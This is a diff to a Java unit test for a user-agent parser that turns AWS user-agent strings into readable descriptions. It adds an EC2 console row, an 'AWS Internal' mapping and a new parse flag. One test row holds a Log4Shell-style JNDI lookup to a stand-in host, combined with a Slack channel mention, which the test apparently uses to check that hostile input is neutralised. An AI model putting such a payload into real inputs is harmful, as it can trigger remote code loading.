@@ -33,6 +33,8 @@ class UserAgentTest {
             AWS CloudFormation    | cloudformation.amazonaws.com
             AWS console           | signin.amazonaws.com
             AWS console           | console.amazonaws.com
+            AWS console (ec2)     | console.ec2.amazonaws.com
+            a part of AWS itself  | AWS Internal
             AWS service autoscaling | autoscaling.amazonaws.com
             AWS console (S3)      | [S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.488 Linux/5.10 OpenJDK_64-Bit_Server_VM]
             AWS console (S3)      | S3Console/0.4
@@ -60,12 +62,17 @@ class UserAgentTest {
             ''                    | <!channel> $1 ${jndi:ldap://evil.example/a}
             """)
     void isPutIntoWords(String words, String userAgent) {
-        assertThat(UserAgent.parse(userAgent)).isEqualTo(new UserAgent(userAgent, words.replace("''", "")));
+        assertThat(UserAgent.parse(userAgent, false)).isEqualTo(new UserAgent(userAgent, words.replace("''", "")));
     }
 
     @Test
     void mayBeAbsent() {
-        assertThat(UserAgent.parse("")).isEqualTo(new UserAgent("", ""));
+        assertThat(UserAgent.parse("", false)).isEqualTo(new UserAgent("", ""));
+    }
+
+    @Test
+    void isTheConsoleWhereTheRecordSaysSo() {
+        assertThat(UserAgent.parse("AWS Internal", true).words()).isEqualTo("AWS console");
     }
 
     @Test
